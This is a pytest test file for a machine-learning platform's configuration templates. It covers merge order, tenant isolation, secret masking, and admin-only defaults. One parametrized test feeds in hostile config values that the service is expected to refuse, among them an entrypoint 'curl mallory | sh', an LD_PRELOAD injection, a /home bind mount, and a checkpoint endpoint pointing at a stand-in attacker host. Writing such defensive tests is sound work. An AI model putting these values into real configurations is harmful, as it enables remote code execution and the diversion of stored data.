"""Templates: merged under what is submitted, hidden from other tenants, with secrets that views do not show."""

from __future__ import annotations

from typing import Any

import pytest
from services_scripted import ALICE, BOB, ROOT, config

from detlab.errors import ConfigError, Conflict, Forbidden, NotFound
from detlab.schemas.expconf import without_defaults
from detlab.schemas.expconf.raw.secret_keys import MASK
from detlab.schemas.taskwire import CreateTask, TaskKind
from detlab.schemas.wire import CreateExperiment, CreateExperimentReply
from detlab.schemas.wire.configs.templates import SetTemplate, TemplateView
from detlab.schemas.wire.workspaces import EditWorkspace, WorkspaceDefaults
from detlab_hub.services import Caller
from detlab_hub.services.admission.configs.templates import Templates
from detlab_hub.services.experiments.experiments import Experiments
from detlab_hub.services.projects.workspaces import Workspaces
from detlab_hub.services.usertasks.usertasks import UserTasks
from detlab_hub.store.tables import ConfigPolicyRow, TemplateRow

EVE = Caller("eve")
WANDA = Caller("wanda")
VIC = Caller("vic")
GPU = {"resources": {"slots_per_trial": 0, "priority": 50}, "environment": {"environment_variables": ["TEAM=lab"]}}


async def lab(make_world: Any, **more: Any) -> Any:
    world = await make_world(**more)
    await world.workspace("lab", bob="editor", vic="viewer", wanda="admin")
    return world


async def put(world: Any, name: str, part: dict[str, Any], caller: Caller = ALICE, **more: Any) -> TemplateView:
    return await world.services[Templates].set(caller, SetTemplate(name=name, config=part, **more))


async def submit(
    world: Any, template: str | None = None, caller: Caller = BOB, workspace: str = "alice/lab", **more: Any
) -> CreateExperimentReply:
    whole = config(**({"workspace": workspace} if workspace else {}))
    del whole["resources"]
    request = CreateExperiment(config={**whole, **more}, template=template, dry_run=True)
    return await world.services[Experiments].create(caller, request)


def given(reply: Any) -> list[tuple[str, Any, str]]:
    return [(one.path, one.value, one.source) for one in reply.given]


async def test_a_template_is_merged_under_the_config_and_shown(make_world):
    world = await lab(make_world)
    await put(world, "gpu", {**GPU, "max_restarts": 1}, workspace="lab")
    environment = {"environment_variables": ["MINE=1"]}
    reply = await submit(world, "gpu", environment=environment, max_restarts=2)
    assert given(reply) == [
        ("resources.slots_per_trial", 0, "template gpu"),
        ("resources.priority", 50, "template gpu"),
        ("environment.environment_variables", ["TEAM=lab"], "template gpu"),
    ]
    assert reply.config["max_restarts"] == 2
    assert reply.config["resources"]["priority"] == 50
    assert reply.config["environment"]["environment_variables"]["cpu"] == ["TEAM=lab", "MINE=1"]


async def test_a_name_means_one_of_the_workspace_then_ones_own_then_the_clusters(make_world):
    world = await lab(make_world)
    await put(world, "gpu", {"max_restarts": 1}, ROOT, workspace="cluster")
    assert (await submit(world, "gpu")).config["max_restarts"] == 1
    await put(world, "gpu", {"max_restarts": 2}, BOB)
    assert (await submit(world, "gpu")).config["max_restarts"] == 2
    await put(world, "GPU", {"max_restarts": 3}, BOB, workspace="alice/lab")
    assert (await submit(world, "gpu")).config["max_restarts"] == 3
    assert (await submit(world, "gpu", workspace="")).config["max_restarts"] == 2
    assert (await submit(world, "cluster:gpu")).config["max_restarts"] == 1
    assert (await submit(world, "alice/lab:gpu", workspace="")).config["max_restarts"] == 3
    assert (await submit(world, "bob/Uncategorized:gpu")).config["max_restarts"] == 2
    assert (await submit(world)).config["max_restarts"] == 5


async def test_templates_of_another_workspace_are_hidden(make_world):
    world = await lab(make_world)
    await put(world, "secret-plan", GPU, workspace="lab")
    await put(world, "own", GPU, ALICE)
    hidden = [
        lambda: submit(world, "alice/lab:secret-plan", EVE, ""),
        lambda: submit(world, "secret-plan", EVE, ""),
        lambda: submit(world, "alice/Uncategorized:own", EVE, ""),
        lambda: world.services[Templates].get(EVE, "alice/lab:secret-plan"),
        lambda: world.services[Templates].get(BOB, "alice/Uncategorized:own"),
        lambda: world.services[Templates].remove(EVE, "alice/lab:secret-plan"),
        lambda: put(world, "x", GPU, EVE, workspace="alice/lab"),
        lambda: put(world, "x", GPU, EVE, base="alice/lab:secret-plan"),
    ]
    absent = [
        lambda: submit(world, "alice/lab:no-such", EVE, ""),
        lambda: submit(world, "no-such", EVE, ""),
        lambda: submit(world, "alice/Uncategorized:no", EVE, ""),
        lambda: world.services[Templates].get(EVE, "alice/lab:no-such"),
        lambda: world.services[Templates].get(BOB, "alice/Uncategorized:no"),
        lambda: world.services[Templates].remove(EVE, "alice/lab:no-such"),
        lambda: put(world, "x", GPU, EVE, workspace="alice/no-such"),
        lambda: put(world, "x", GPU, EVE, base="alice/lab:no-such"),
    ]
    for one, other in zip(hidden, absent, strict=True):
        said = []
        for call in (one, other):
            with pytest.raises(NotFound) as refused:
                await call()
            said.append(type(refused.value).__mro__[-3:])
        assert said[0] == said[1]
    assert (await world.services[Templates].list(EVE)).items == []
    assert [one.name for one in (await world.services[Templates].list(VIC)).items] == ["secret-plan"]


async def test_a_viewer_sees_a_template_and_does_not_use_or_change_it(make_world):
    world = await lab(make_world)
    await put(world, "gpu", GPU, workspace="lab")
    assert (await world.services[Templates].get(VIC, "alice/lab:gpu")).config == GPU
    for call in (
        lambda: submit(world, "alice/lab:gpu", VIC, ""),
        lambda: put(world, "gpu", GPU, VIC, workspace="alice/lab"),
        lambda: world.services[Templates].remove(VIC, "alice/lab:gpu"),
    ):
        with pytest.raises(Forbidden):
            await call()


async def test_what_runs_as_others_is_changed_by_its_maker_and_admins_alone(make_world):
    world = await lab(make_world)
    await put(world, "gpu", GPU, workspace="lab")
    with pytest.raises(Forbidden, match="alice's: only they and admins"):
        await put(world, "gpu", {"environment": {"image": "mallory/image"}}, BOB, workspace="alice/lab")
    with pytest.raises(Forbidden, match="alice's"):
        await world.services[Templates].remove(BOB, "alice/lab:gpu")
    assert (await put(world, "gpu", GPU, WANDA, workspace="alice/lab")).version == 2
    with pytest.raises(Forbidden, match="administrators"):
        await put(world, "gpu", GPU, ALICE, workspace="cluster")
    with pytest.raises(Conflict, match="already"):
        await put(world, "gpu", GPU, workspace="lab", create=True)


async def test_a_template_stands_on_another_and_a_loop_is_refused_by_name(make_world):
    world = await lab(make_world)
    await put(world, "site", {"max_restarts": 1, "resources": {"priority": 60}}, ROOT, workspace="cluster")
    await put(world, "a", {"resources": {"priority": 50}}, workspace="lab", base="site")
    await put(world, "b", {"labels": ["b"]}, workspace="lab", base="alice/lab:a")
    reply = await submit(world, "b")
    assert [one[::2] for one in given(reply)] == [
        ("labels", "template b"),
        ("resources.priority", "template a"),
        ("max_restarts", "template site"),
    ]
    assert (reply.config["resources"]["priority"], reply.config["max_restarts"]) == (50, 1)
    with pytest.raises(Conflict, match=r"'a' → 'b' → 'a' stand on one another in a loop"):
        await put(world, "a", {}, workspace="lab", base="b")
    with pytest.raises(Conflict, match="'a' → 'a'"):
        await put(world, "a", {}, workspace="lab", base="a")
    assert (await submit(world, "b")).config["resources"]["priority"] == 50
    with pytest.raises(Conflict, match="stand on 'a': 'b'"):
        await world.services[Templates].remove(ALICE, "alice/lab:a")
    await put(world, "mine", {})
    with pytest.raises(Conflict, match="others may see"):
        await put(world, "c", {}, workspace="lab", base="alice/Uncategorized:mine")
    for number in range(13):
        await put(world, f"deep{number}", {}, workspace="lab", base=f"deep{number - 1}" if number else "b")
    with pytest.raises(Conflict, match="more than 16"):
        await put(world, "too-deep", {}, workspace="lab", base="deep12")


@pytest.mark.parametrize(
    ("part", "path"),
    [
        ({"workspace": "alice/lab"}, "workspace"),
        ({"project": "x"}, "project"),
        ({"max_restart": 1}, "max_restart"),
        ({"resources": {"slots": "many"}}, "resources.slots"),
        ({"resources": {"resource_pool": "nowhere"}}, "resources.resource_pool"),
        ({"idle_timeout": "soon"}, "idle_timeout"),
        ({"environment": {"registry_auth": {"password": MASK}}}, "environment.registry_auth.password"),
        ([1], ""),
    ],
)
async def test_mistakes_are_told_with_their_places(make_world, part, path):
    world = await lab(make_world)
    yaml = "[1]" if isinstance(part, list) else None
    wanted = SetTemplate(name="x", config=None if yaml else part, config_yaml=yaml)
    with pytest.raises(ConfigError) as refused:
        await world.services[Templates].set(ALICE, wanted)
    assert path in [one.path for one in refused.value.problems]


async def test_secrets_are_masked_kept_and_given_to_who_uses_it(make_world):
    world = await lab(make_world)
    part = {
        "environment": {
            "registry_auth": {"username": "u", "password": "hunter22"},
            "environment_variables": ["API_KEY=verysecret", "A=1"],
        },
        "data": {"secrets": {"token": "alsosecret"}},
    }
    made = await put(world, "s", part, workspace="lab")
    assert [one.message for one in made.warnings] == ["holds credentials"]
    shown = await world.services[Templates].get(VIC, "alice/lab:s")
    text = made.model_dump_json() + shown.model_dump_json()
    assert not any(secret in text for secret in ("hunter22", "verysecret", "alsosecret"))
    reply = await submit(world, "s")
    assert not any(secret in str(reply.given) for secret in ("hunter22", "verysecret", "alsosecret"))
    again = await put(world, "s", {**shown.config, "max_restarts": 1}, workspace="lab")
    assert again.version == 2
    row = world.store.read_sync(lambda s: s.query(TemplateRow).one())
    assert row.config == {**part, "max_restarts": 1}
    with pytest.raises(ConfigError, match="alice's is not shown"):
        await put(world, "s", shown.config, WANDA, workspace="alice/lab")


async def test_the_default_template_of_a_workspace_is_under_each_experiment_that_names_none(make_world):
    world = await lab(make_world)
    await put(world, "standard", {"max_restarts": 1}, workspace="lab")
    edit = EditWorkspace(defaults=WorkspaceDefaults(template="standard"))
    await world.services[Workspaces].edit(ALICE, "alice/lab", edit)
    assert given(await submit(world)) == [("max_restarts", 1, "template standard")]
    assert given(await submit(world, "")) == []
    await put(world, "other", {"labels": ["x"]}, workspace="lab")
    assert [path for path, *_ in given(await submit(world, "other"))] == ["labels"]
    assert given(await submit(world, workspace="")) == []
    with pytest.raises(Conflict, match="default template"):
        await world.services[Templates].remove(ALICE, "alice/lab:standard")
    await put(world, "bobs", {"max_restarts": 1}, BOB, workspace="alice/lab")
    for name in ("no-such", "cluster:x"):
        with pytest.raises(NotFound):
            await world.services[Workspaces].edit(
                ALICE, "alice/lab", EditWorkspace(defaults=WorkspaceDefaults(template=name))
            )


@pytest.mark.parametrize(
    "part",
    [
        {"environment": {"environment_variables": ["LD_PRELOAD=/tmp/x.so"]}},
        {"entrypoint": "curl mallory | sh"},
        {"bind_mounts": [{"host_path": "/home", "container_path": "/home"}]},
        {"checkpoint_storage": {"type": "s3", "bucket": "b", "endpoint_url": "http://mallory"}},
        {"resources": {"devices": ["/dev/kvm:/dev/kvm"]}},
        {"slurm": {"sbatch_args": ["--partition=x"]}},
        {"runtime": "process"},
    ],
)
async def test_what_decides_what_runs_as_members_is_no_default_of_a_workspaces_admins(make_world, part):
    world = await lab(make_world)
    await put(world, "standard", part, workspace="lab")
    edit = EditWorkspace(defaults=WorkspaceDefaults(template="standard"))
    with pytest.raises(Forbidden, match="administrators of the cluster"):
        await world.services[Workspaces].edit(ALICE, "alice/lab", edit)
    await put(world, "standard", {"max_restarts": 1}, workspace="lab")
    await world.services[Workspaces].edit(ALICE, "alice/lab", edit)
    with pytest.raises(Forbidden, match="administrators of the cluster"):
        await put(world, "standard", part, workspace="lab")
    await put(world, "below", {}, workspace="lab")
    await put(world, "standard", {}, workspace="lab", base="below")
    with pytest.raises(Forbidden, match="administrators of the cluster"):  # nor by the one that it stands on
        await put(world, "below", part, workspace="lab")
    await put(world, "standard", part, ROOT, workspace="alice/lab")


async def test_no_editor_changes_what_the_default_template_stands_on(make_world):
    """Else who has made a base could send what all members store to another bucket, once an admin has built on it."""
    world = await lab(make_world)
    await put(world, "base", {"max_restarts": 1}, BOB, workspace="alice/lab")
    await put(world, "between", {}, BOB, workspace="alice/lab", base="base")
    await put(world, "standard", {}, workspace="lab", base="between")
    await put(world, "base", {"max_restarts": 2}, BOB, workspace="alice/lab")
    edit = EditWorkspace(defaults=WorkspaceDefaults(template="standard"))
    await world.services[Workspaces].edit(ALICE, "alice/lab", edit)
    for name in ("base", "between", "standard"):
        for part in ({"checkpoint_storage": {"type": "s3", "bucket": "bobs"}}, {"max_restarts": 3}):
            with pytest.raises(Forbidden, match="the default of its workspace: only admins"):
                await put(world, name, part, BOB, workspace="alice/lab")
    assert (await submit(world)).config["max_restarts"] == 2
    assert (await put(world, "base", {"max_restarts": 3}, WANDA, workspace="alice/lab")).version == 3


async def test_user_tasks_take_what_they_know_of_it(make_world):
    world = await lab(make_world)
    part = {**GPU, "searcher": {"name": "single", "metric": "loss"}, "idle_timeout": "30m", "entrypoint": "true"}
    part["resources"] = {"slots": 0, "slots_per_trial": 4}
    await put(world, "gpu", part, BOB)
    request = CreateTask(kind=TaskKind.COMMAND, config={}, template="gpu", dry_run=True)
    reply = await world.services[UserTasks].create(BOB, request)
    assert reply.config["resources"]["slots"] == 0
    assert reply.config["entrypoint"] in ("true", ["true"])
    assert {one.source for one in reply.given} == {"template gpu"}
    reply = await submit(world, "bob/Uncategorized:gpu", searcher={"name": "random", "metric": "acc", "max_trials": 2})
    assert reply.config["resources"]["slots_per_trial"] == 4
    assert not any("slots:" in one.path or one.path == "idle_timeout" for one in reply.given)
    with pytest.raises(NotFound, match="no template 'nix'"):
        await world.services[UserTasks].create(BOB, request.model_copy(update={"template": "nix"}))


async def test_they_go_with_their_workspace(make_world):
    world = await lab(make_world)
    await put(world, "gpu", GPU, workspace="lab")
    await world.services[Workspaces].delete(ALICE, "alice/lab")
    kept = world.store.read_sync(lambda s: (s.query(TemplateRow).count(), s.query(ConfigPolicyRow).count()))
    assert kept == (0, 0)


@pytest.mark.parametrize("left_out", [True, False], ids=["a cell of %det_fork", "det experiment fork"])
async def test_a_fork_runs_what_the_earlier_one_ran_and_not_what_a_default_template_says(make_world, left_out):
    """`max_restarts: 5` was said, equals the default, and was not in the cell: the template gave another value."""
    world = await lab(make_world)
    said = {**config(workspace="alice/lab", max_restarts=5, checkpoint_policy="best"), "labels": ["mine"]}
    earlier = (await world.services[Experiments].create(BOB, CreateExperiment(config=said))).experiment
    auth = {"username": "site", "password": "hunter22", "serveraddress": "registry.lab"}
    standard = {
        "max_restarts": 1,
        "checkpoint_policy": "all",
        "labels": ["theirs"],
        "resources": {"priority": 50},
        "environment": {"registry_auth": auth, "environment_variables": ["TEAM=lab"]},
    }
    await put(world, "standard", standard, ROOT, workspace="alice/lab")
    edit = EditWorkspace(defaults=WorkspaceDefaults(template="standard"))
    await world.services[Workspaces].edit(ROOT, "alice/lab", edit)
    view = await world.services[Experiments].get(BOB, earlier.id)
    whole = {key: value for key, value in view.config.items() if value is not None}
    sent = {**without_defaults(whole), "workspace": "alice/lab"} if left_out else whole
    assert ("max_restarts" in sent) != left_out
    request = CreateExperiment(config=sent, forked_from=earlier.id, dry_run=True)
    made = await world.services[Experiments].create(BOB, request)
    made.config["environment"].pop("registry_auth"), view.config["environment"].pop("registry_auth")
    assert made.config == view.config
    assert {one.path.split(".")[1] for one in made.given} == {"registry_auth"}, "credentials are given to it anew"
    named = request.model_copy(update={"template": "standard"})
    asked = await world.services[Experiments].create(BOB, named)
    assert asked.config["max_restarts"] == (1 if left_out else 5), "a template that is named is asked for"
